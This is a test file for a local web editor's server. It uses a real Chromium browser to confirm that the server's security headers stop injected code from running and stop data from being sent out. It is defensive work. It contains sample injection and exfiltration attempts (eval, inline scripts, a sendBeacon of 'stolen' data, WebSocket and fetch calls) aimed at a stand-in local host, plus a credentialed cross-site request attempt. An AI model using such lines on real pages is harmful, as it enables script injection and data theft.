// What the web host's headers forbid, in a real Chromium: a page that was tampered with can neither run nor send anything.
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { chromium } from "playwright-core";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { silentLogger, systemRandom } from "../../src/core/base/index.ts";
import { startWebServer } from "../../src/web/index.ts";
import type { WebServer } from "../../src/web/index.ts";
import { createCoreDouble } from "../support/core-double.ts";
import { chromiumPath } from "../support/editor.ts";

/** Each attempt leaves its name behind when it succeeds. */
const attempts = `
  const done = (window.done = []);
  const tries = {
    eval: () => eval("done.push('eval')"),
    "new Function": () => new Function("done.push('new Function')")(),
    "inline script": () => {
      const script = document.createElement("script");
      script.textContent = "window.done.push('inline script')";
      document.body.append(script);
    },
    "inline handler": () => {
      document.body.insertAdjacentHTML("beforeend", "<b onclick=\\"window.done.push('inline handler')\\">b</b>");
      document.querySelector("b").click();
    },
    "inline style": () => {
      document.body.insertAdjacentHTML("beforeend", "<style>body { --inline: 1 }</style>");
      if (getComputedStyle(document.body).getPropertyValue("--inline") !== "") done.push("inline style");
    },
    fetch: () => fetch(window.elsewhere).then(() => done.push("fetch"), () => undefined),
    beacon: () => navigator.sendBeacon(window.elsewhere + "/beacon", "stolen"),
    image: () => load("img", "/image"),
    video: () => load("video", "/video"),
    frame: () => load("iframe", "/frame"),
    script: () => load("script", "/script.js"),
    socket: () => new WebSocket(window.elsewhere.replace("http", "ws")).addEventListener("open", () => done.push("socket")),
    "data script": () => load("script", "", "data:text/javascript,done.push('data script')"),
  };
  function load(tag, path, url = window.elsewhere + path) {
    const element = document.createElement(tag);
    element.src = url;
    document.body.append(element);
  }
  for (const attempt of Object.values(tries)) {
    try { attempt(); } catch (error) { if (!(error instanceof EvalError)) throw error; }
  }
  done.push("own script");
`;

let folder = "";
let server: WebServer;
let browser: Browser;
const asked: string[] = [];
const elsewhere = createServer((request, response) => {
  asked.push(`${request.method} ${request.url}`);
  response
    .setHeader("Access-Control-Allow-Origin", "*")
    .setHeader("Cross-Origin-Resource-Policy", "cross-origin")
    .end();
});
const elsewhereUrl = () => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "dubwright-policy-"));
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  await mkdir(join(folder, "assets"));
  const page = `<!doctype html><meta charset="utf-8"><title>page</title><body><script>window.done = ["parsed inline script"]</script>
    <script src="assets/where.js"></script><script src="assets/attempts.js"></script></body>`;
  await writeFile(join(folder, "index.html"), page);
  await writeFile(join(folder, "assets", "where.js"), `window.elsewhere = ${JSON.stringify(elsewhereUrl())};`);
  await writeFile(join(folder, "assets", "attempts.js"), attempts);
  const core = createCoreDouble();
  server = await startWebServer({ core, port: 0, rendererFolder: folder, logger: silentLogger, random: systemRandom });
  browser = await chromium.launch({ executablePath: chromiumPath(), args: ["--no-sandbox"] });
});
afterAll(async () => {
  await browser?.close();
  await server?.[Symbol.asyncDispose]();
  elsewhere.close();
  await rm(folder, { recursive: true, force: true });
});

async function openPage(): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(server.newStartUrl());
  await page.waitForURL((url) => url.pathname === "/");
  return page;
}

test("nothing runs but the page's own files, and nothing is sent anywhere else", async () => {
  const page = await openPage();
  await page.waitForFunction("window.done?.includes('own script')");
  // Whatever would get through needs a moment to arrive.
  await page.waitForTimeout(500);
  expect(await page.evaluate("window.done")).toEqual(["own script"]);
  expect(asked).toEqual([]);
});

test("another site can neither frame the editor nor read from it, even with its address", async () => {
  const page = await browser.newPage();
  await page.goto(`${elsewhereUrl()}/`);
  const address = `http://127.0.0.1:${server.port}`;
  const outcome = await page.evaluate(async (target) => {
    const told = (promise: Promise<unknown>) =>
      promise.then(
        () => "got through",
        () => "blocked",
      );
    const image = new Image();
    const loaded = new Promise((resolve, reject) => {
      image.addEventListener("load", resolve);
      image.addEventListener("error", reject);
    });
    image.src = `${target}/media/film`;
    const socket = new WebSocket(`${target.replace("http", "ws")}/contract`);
    const opened = new Promise((resolve, reject) => {
      socket.addEventListener("open", resolve);
      socket.addEventListener("error", reject);
    });
    const frame = document.createElement("iframe");
    frame.src = target;
    document.body.append(frame);
    return {
      fetched: await told(fetch(target, { credentials: "include" })),
      posted: await told(fetch(`${target}/upload?name=a`, { method: "POST", body: "x", credentials: "include" })),
      shown: await told(loaded),
      spoken: await told(opened),
    };
  }, address);
  expect(outcome).toEqual({ fetched: "blocked", posted: "blocked", shown: "blocked", spoken: "blocked" });
  const framed = page.frames().find((frame) => frame !== page.mainFrame());
  expect(framed?.url()).not.toBe(`${address}/`);
});

test("an address opens one browser and leaves no token in its history", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const startUrl = server.newStartUrl();
  await page.goto(startUrl);
  await page.waitForURL((url) => url.pathname === "/");
  expect(await page.evaluate("document.cookie")).toBe("");
  expect(await page.evaluate("document.referrer")).toBe("");
  const other = await (await browser.newContext()).newPage();
  const answer = await other.goto(startUrl);
  expect(answer?.status()).toBe(401);
  expect(await other.textContent("body")).toContain("press Enter there for a new one");
});
